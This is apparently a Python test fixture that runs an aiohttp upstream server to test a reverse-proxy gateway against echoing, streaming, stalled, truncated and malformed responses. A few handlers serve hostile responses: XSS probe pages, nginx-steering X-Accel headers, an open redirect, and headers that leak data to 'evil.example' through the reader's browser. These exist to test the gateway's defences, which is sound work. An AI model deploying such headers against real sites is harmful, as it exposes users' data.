"""A container for tests of the gateway: a real server. Its paths echo, stream, wait or close the connection."""

from __future__ import annotations

import asyncio
import hashlib
import socket
import struct
import tempfile
import threading
import time
from pathlib import Path
from typing import Any

from aiohttp import WSMsgType, web
from aiohttp.typedefs import Handler

__all__ = ["BLOCK", "STREAMS", "Upstream", "header"]

BLOCK = bytes(range(256)) * 1024
STREAMS = ("bytes", "chunks", "short", "follow", "wait", "swallow")


class Upstream:
    """Runs in a thread of the test, at `port` and at the unix socket `socket`; counts the gateway's requests.

    With `?stepwise=1`, a stream sends its next piece only when `taken` reaches the number of pieces sent. A test sets
    `taken` to the number of pieces that it has read.
    """

    def __init__(self) -> None:
        self.port = 0
        self._folder = tempfile.TemporaryDirectory(prefix="t-")
        self.socket = Path(self._folder.name) / "upstream.sock"
        self.sent_bytes = 0
        self.received_bytes = 0
        self.cancelled = threading.Event()
        self.began = threading.Event()
        self.waiting = 0
        self.taken = 0
        self.asked = 0
        self._active = 0
        self._loop = asyncio.new_event_loop()
        self._ready = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def __enter__(self) -> Upstream:
        self._thread.start()
        assert self._ready.wait(10)
        return self

    def __exit__(self, *_: object) -> None:
        self._loop.call_soon_threadsafe(self._stop.set)
        self._thread.join(10)
        assert not self._thread.is_alive()
        self._folder.cleanup()

    def wait_until_idle(self) -> None:
        """Wait, 10 s at most, until no request is in progress: those of the test before would change the counters."""
        deadline = time.monotonic() + 10
        while self._active and time.monotonic() < deadline:
            time.sleep(0.01)

    def forget(self) -> None:
        """Set the counters to zero for the next test."""
        self.sent_bytes = self.received_bytes = self.asked = self.taken = 0
        self.cancelled.clear()
        self.began.clear()

    def _run(self) -> None:
        asyncio.set_event_loop(self._loop)
        self._loop.run_until_complete(self._serve())
        self._loop.close()

    async def _serve(self) -> None:
        self._stop = asyncio.Event()
        app = web.Application(client_max_size=2**40, middlewares=[self._count])
        app.router.add_route("GET", "/dagster/graphql", self._ws_or_echo)
        app.router.add_route("*", "/{path:.*}page.html", self._page)
        for name in (*STREAMS, "refuse", "raw", "ws", "redirect", "status", "steer", "hang-up", "garbage", "cookies",
                     "subvert", "lead"):  # fmt: skip
            app.router.add_route("*", f"/{name}", getattr(self, f"_{name.replace('-', '_')}"))
        app.router.add_route("*", "/{path:.*}", self._echo)
        runner = web.AppRunner(
            app, handler_cancellation=True, shutdown_timeout=1, access_log=None, auto_decompress=False
        )
        await runner.setup()
        site = web.TCPSite(runner, "127.0.0.1", 0)
        await site.start()
        self.port = runner.addresses[0][1]
        await web.UnixSite(runner, self.socket).start()
        self._ready.set()
        await self._stop.wait()
        await runner.cleanup()

    @web.middleware
    async def _count(self, request: web.Request, handler: Handler) -> web.StreamResponse:
        self._active += 1
        try:
            return await handler(request)
        finally:
            self._active -= 1

    async def _echo(self, request: web.Request) -> web.Response:
        digest, size = hashlib.sha256(), 0
        async for chunk in request.content.iter_any():
            digest.update(chunk)
            size += len(chunk)
        body = {
            "method": request.method,
            "path": request.raw_path,
            "headers": [[name, value] for name, value in request.headers.items()],
            "size": size,
            "sha256": digest.hexdigest(),
        }
        return web.json_response(body, headers={"Access-Control-Allow-Origin": "*", "X-Seen": "yes"})

    async def _bytes(self, request: web.Request) -> web.StreamResponse:
        left = int(request.query["n"])
        response = web.StreamResponse(headers={"Content-Length": str(left), "ETag": '"e"', "Content-Encoding": "gzip"})
        await response.prepare(request)
        try:
            while left and request.method != "HEAD":
                await response.write(BLOCK[:left])
                self.sent_bytes += min(left, len(BLOCK))
                left -= min(left, len(BLOCK))
        except (ConnectionError, asyncio.CancelledError):
            self.cancelled.set()
            raise
        return response

    async def _chunks(self, request: web.Request) -> web.StreamResponse:
        response = web.StreamResponse()
        response.enable_chunked_encoding()
        await response.prepare(request)
        for number in range(3):
            await response.write(f"chunk {number}\n".encode())
            await self._pause(request, number + 1, 0.3)
        return response

    async def _pause(self, request: web.Request, sent: int, pause_s: float) -> None:
        """Pause in a stream after `sent` pieces: for `pause_s`, or until the test has read them."""
        if "stepwise" not in request.query:
            await asyncio.sleep(pause_s)
            return
        while self.taken < sent:
            await asyncio.sleep(0.01)

    async def _short(self, request: web.Request) -> web.StreamResponse:
        """End a body too early, for each way in which HTTP/1.1 marks the end of a body."""
        head = {
            "length": b"HTTP/1.1 200 OK\r\nContent-Length: 1000\r\n\r\n0123456789",
            "chunked": b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\na\r\n0123456789\r\n",
            "reset": b"HTTP/1.1 200 OK\r\nConnection: close\r\n\r\n0123456789",
        }[request.query["how"]]
        assert request.transport is not None
        request.transport.write(head)
        await asyncio.sleep(0.3)
        if request.query["how"] == "reset":
            reset(request.transport)
        else:
            request.transport.close()
        return web.Response()

    async def _raw(self, request: web.Request) -> web.StreamResponse:
        """Send a body without a length, as HTTP/1.0 servers do: it ends with the connection."""
        assert request.transport is not None
        request.transport.write(b"HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\n\r\nto the end")
        request.transport.close()
        return web.Response()

    async def _follow(self, request: web.Request) -> web.StreamResponse:
        response = web.StreamResponse()
        await response.prepare(request)
        sent = 0
        try:
            while True:
                await response.write(b"a line\n")
                self.began.set()
                sent += 1
                await self._pause(request, sent, 0.05)
        except (ConnectionError, asyncio.CancelledError):
            self.cancelled.set()
            raise

    async def _wait(self, request: web.Request) -> web.Response:
        self.waiting += 1
        self.began.set()
        try:
            await asyncio.sleep(float(request.query["s"]))
        except asyncio.CancelledError:
            self.cancelled.set()
            raise
        finally:
            self.waiting -= 1
        return web.json_response({"waited": request.query["s"]})

    async def _refuse(self, request: web.Request) -> web.Response:
        """Answer without reading the body."""
        return web.json_response({"error": {"code": "too_large"}}, status=413)

    async def _swallow(self, request: web.Request) -> web.Response:
        """Read the body so slowly that the gateway must wait."""
        self.began.set()
        try:
            async for chunk in request.content.iter_chunked(65536):
                self.received_bytes += len(chunk)
                await asyncio.sleep(0.2)
        except (Exception, asyncio.CancelledError):
            self.cancelled.set()
            raise
        return web.json_response({"size": self.received_bytes})

    async def _redirect(self, request: web.Request) -> web.Response:
        return web.Response(status=201, headers={"Location": f"http://{request.host}/artifacts/made"})

    async def _status(self, request: web.Request) -> web.Response:
        """Answer with any status and a body of this container."""
        headers = {"WWW-Authenticate": 'Basic realm="mine"'} if request.query["code"] == "401" else {}
        return web.Response(status=int(request.query["code"]), text="my own words", headers=headers)

    async def _page(self, request: web.Request) -> web.Response:
        """Send a tool's page that pretends to be a page of this project."""
        headers = {
            "Content-Disposition": 'inline; filename="page.html"',
            "Content-Security-Policy": "script-src *",
            "X-Content-Type-Options": "whatever",
        }
        return web.Response(text="<script>alert(1)</script>", content_type="text/html", headers=headers)

    async def _steer(self, request: web.Request) -> web.Response:
        """Send headers that control nginx, and some hop-by-hop headers."""
        orders = {
            "X-Accel-Redirect": "/./error/down",
            "X-Accel-Buffering": "yes",
            "X-Accel-Limit-Rate": "1",
            "Proxy-Authenticate": "Basic",
            "Trailer": "X",
            "Server": "mine/1.0",
        }
        return web.Response(text="as it came", headers=orders)

    async def _subvert(self, request: web.Request) -> web.Response:
        """Send a page that leaks data through the browser of its reader."""
        away = "http://evil.example/?secret"
        orders = {
            "Content-Security-Policy": "default-src * 'unsafe-inline'",
            "Content-Security-Policy-Report-Only": f"default-src 'none'; report-uri {away}",
            "NEL": '{"report_to": "x", "max_age": 1}',
            "Refresh": f"0; url={away}",
            "Report-To": "{}",
            "Reporting-Endpoints": f'x="{away}"',
        }
        return web.Response(text="<script>alert(1)</script>", content_type="text/html", headers=orders)

    async def _lead(self, request: web.Request) -> web.Response:
        """Redirect to the URL in the query."""
        location = request.query["to"].format(host=request.host)
        return web.Response(status=307, headers={"Location": location})

    async def _cookies(self, request: web.Request) -> web.Response:
        response = web.Response()
        response.set_cookie("a", "1")
        response.set_cookie("b", "2")
        return response

    async def _hang_up(self, request: web.Request) -> web.Response:
        """Read the request and close the connection without an answer."""
        self.asked += 1
        await request.read()
        assert request.transport is not None
        request.transport.close()
        return web.Response()

    async def _garbage(self, request: web.Request) -> web.Response:
        """Answer with bytes that are not HTTP."""
        assert request.transport is not None
        request.transport.write(b"220 mail.example ESMTP\r\n")
        request.transport.close()
        return web.Response()

    async def _ws_or_echo(self, request: web.Request) -> web.StreamResponse:
        return await (self._ws(request) if "Upgrade" in request.headers else self._echo(request))

    async def _ws(self, request: web.Request) -> web.StreamResponse:
        response = web.WebSocketResponse(protocols=["graphql-ws"])
        await response.prepare(request)
        try:
            async for message in response:
                if message.type is WSMsgType.TEXT and message.data == "close":
                    await response.close(code=4001)
                elif message.type is WSMsgType.TEXT:
                    await response.send_str(f"{request.headers.get('Authorization', '-')} {message.data}")
                elif message.type is WSMsgType.BINARY:
                    await response.send_bytes(message.data)
        finally:  # an answer to a client that has left raises
            self.cancelled.set()
        return response


def reset(transport: asyncio.BaseTransport) -> None:
    """Reset a connection, as the kernel does after a crash."""
    transport.get_extra_info("socket").setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    transport.abort()  # type: ignore[attr-defined]


def header(answer: dict[str, Any], name: str) -> str | None:
    """Return a header of the request that the upstream received, from its echo `answer`."""
    return next((value for key, value in answer["headers"] if key.lower() == name.lower()), None)
